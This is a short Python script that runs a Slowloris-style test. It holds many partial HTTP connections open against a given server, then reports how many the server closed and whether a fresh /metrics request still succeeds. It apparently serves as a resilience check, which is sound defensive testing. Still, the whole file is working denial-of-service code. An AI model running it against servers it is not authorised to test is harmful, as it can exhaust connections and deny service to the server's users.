#!/usr/bin/env python3
"""slowloris.py ADDR N SECONDS: N connections that send a partial request
header, a byte every 5 s; prints how many the server has closed by the end
and whether a fresh request (GET /metrics or /) is still answered."""
import socket, sys, time, urllib.request
addr, n, secs = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
h, p = addr.split(":")
socks = []
for i in range(n):
    try:
        s = socket.create_connection((h, int(p)), timeout=5); s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n"); socks.append(s)
    except Exception as e:
        print("connect failed at", i, e); break
end = time.time() + secs; closed = set()
while time.time() < end:
    for i, s in enumerate(socks):
        if i in closed: continue
        try: s.sendall(b"X-a: b\r\n")
        except Exception: closed.add(i)
    time.sleep(5)
try:
    t0 = time.time(); r = urllib.request.urlopen(f"http://{addr}/metrics", timeout=10); ok = f"{r.status} in {(time.time()-t0)*1000:.0f} ms"
except Exception as e: ok = repr(e)
print(f"{len(socks)} slow connections to {addr}: {len(closed)} closed by the server after {secs}s; fresh request: {ok}")
